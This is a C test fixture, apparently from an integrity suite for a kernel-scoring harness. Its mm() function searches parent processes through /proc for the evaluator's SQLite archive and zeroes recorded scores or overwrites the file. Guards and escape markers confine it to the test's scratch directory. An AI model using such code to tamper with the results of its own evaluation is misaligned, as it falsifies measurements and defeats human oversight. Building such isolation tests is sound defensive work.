/*
 * ATTACK archive_tamper — rewrite the archive of the run that evaluates us.
 * The kernel finds SQLite files through every route it can: the open
 * descriptors of each ancestor (/proc/PID/fd, the engine holds the archive
 * open), their command lines (--db FILE), their working directories and its
 * own, walking up. It opens each with the SQLite library already mapped in
 * the runner (dlsym RTLD_DEFAULT; dlopen libsqlite3 otherwise) and zeroes the
 * scores of every earlier candidate and evaluation; without SQLite it
 * overwrites the file's bytes. Works as root and as the engine's own uid.
 * Only files under the test's scratch root are touched. Writes no output.
 * Stopped by: the archive unreachable from the candidate (own mount view,
 * unprivileged, no inherited descriptors: issue 10, items 1 and 2).
 * integrity: expect=any
 * integrity: escapes=unisolated/user
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifndef INTEGRITY_ROOT
#define INTEGRITY_ROOT "/nonexistent-integrity-root"
#endif

/* Ancestors are walked only below the test's driver (its pid comes in
 * -DINTEGRITY_DRIVER), so nothing outside the test is ever read or touched;
 * without it, at most the three nearest (judge, worker, engine). */
#ifndef INTEGRITY_DRIVER
#define INTEGRITY_DRIVER 0
#endif
#define ANCESTOR_OK(pid, depth)                                                                    \
    ((pid) > 1 && (pid) != INTEGRITY_DRIVER && (depth) < (INTEGRITY_DRIVER ? 8 : 3))

/* A step that worked is reported on stdout and stderr with this marker, and
 * the kernel then fails on purpose, so its output is kept as the log: the
 * test sees the escape even where it cannot see the effect (a private
 * mount view, a namespace). */
static int escapes;
static void escaped(const char *fmt, ...)
{
    char line[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    printf("INTEGRITY-ESCAPE: %s\n", line);
    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
    fflush(stdout);
    escapes++;
}

static int in_root(const char *path)
{
    char real[PATH_MAX];
    const char *p = realpath(path, real) ? real : path;
    size_t n = strlen(INTEGRITY_ROOT);
    return strncmp(p, INTEGRITY_ROOT, n) == 0 && (p[n] == '/' || p[n] == '\0');
}

typedef int open_fn(const char *, void **, int, const char *);
typedef int exec_fn(void *, const char *, void *, void *, char **);
typedef int close_fn(void *);
typedef int timeout_fn(void *, int);

static char seen[64][PATH_MAX];
static int nseen;

static void tamper(const char *path)
{
    size_t len = strlen(path);
    if (len < 3 || strcmp(path + len - 3, ".db") != 0 || !in_root(path))
        return;
    for (int i = 0; i < nseen; i++)
        if (strcmp(seen[i], path) == 0)
            return;
    if (nseen < 64)
        snprintf(seen[nseen++], PATH_MAX, "%s", path);
    /* RTLD_DEFAULT is a null pointer: look up there first, then in a fresh load. */
    void *lib = dlopen("libsqlite3.so.0", RTLD_NOW | RTLD_NOLOAD);
    open_fn *op = (open_fn *)dlsym(RTLD_DEFAULT, "sqlite3_open_v2");
    if (!op && (lib || (lib = dlopen("libsqlite3.so.0", RTLD_NOW))))
        op = (open_fn *)dlsym(lib, "sqlite3_open_v2");
    void *from = lib ? lib : RTLD_DEFAULT;
    exec_fn *ex = (exec_fn *)dlsym(from, "sqlite3_exec");
    close_fn *cl = (close_fn *)dlsym(from, "sqlite3_close");
    timeout_fn *bt = (timeout_fn *)dlsym(from, "sqlite3_busy_timeout");
    if (op && ex && cl) {
        void *db = NULL;
        if (op(path, &db, 2 /* SQLITE_OPEN_READWRITE */, NULL) == 0) {
            if (bt)
                bt(db, 3000);
            int rc = ex(db,
                        "UPDATE candidates SET score = 0 WHERE status = 'ok';"
                        "UPDATE evaluations SET gflops = 0, gbs = 0;",
                        NULL, NULL, NULL);
            if (rc == 0)
                escaped("zeroed the scores in %s", path);
        }
        cl(db);
        return;
    }
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        static const char junk[4096] = "tampered";
        if (pwrite(fd, junk, sizeof junk, 4096) == (ssize_t)sizeof junk)
            escaped("overwrote a page of %s", path);
        close(fd);
    }
}

static void scan_dir(const char *dir)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        char path[PATH_MAX * 2];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        tamper(path);
    }
    closedir(d);
}

static void walk_up(const char *start)
{
    char dir[PATH_MAX];
    if (!realpath(start, dir))
        return;
    for (;;) {
        if (in_root(dir))
            scan_dir(dir);
        char *slash = strrchr(dir, '/');
        if (!slash || slash == dir)
            break;
        *slash = '\0';
    }
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
    walk_up(".");
    for (pid_t pid = getppid(), depth = 0; ANCESTOR_OK(pid, depth); depth++) {
        char path[128], link[PATH_MAX];
        snprintf(path, sizeof path, "/proc/%d/fd", (int)pid);
        DIR *d = opendir(path);
        struct dirent *e;
        while (d && (e = readdir(d))) {
            char fdpath[PATH_MAX];
            snprintf(fdpath, sizeof fdpath, "%s/%s", path, e->d_name);
            ssize_t n = readlink(fdpath, link, sizeof link - 1);
            if (n > 0) {
                link[n] = '\0';
                tamper(link);
            }
        }
        if (d)
            closedir(d);
        snprintf(path, sizeof path, "/proc/%d/cwd", (int)pid);
        walk_up(path);
        char args[8192];
        snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd >= 0 ? read(fd, args, sizeof args - 1) : -1;
        if (fd >= 0)
            close(fd);
        for (ssize_t i = 0; i < n; i += (ssize_t)strlen(args + i) + 1)
            tamper(args + i);
        snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
        FILE *f = fopen(path, "r");
        int ppid = 0;
        if (!f || fscanf(f, "%*d %*s %*c %d", &ppid) != 1)
            ppid = 0;
        if (f)
            fclose(f);
        pid = ppid;
    }
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
    attack();
    if (escapes)
        abort();
}
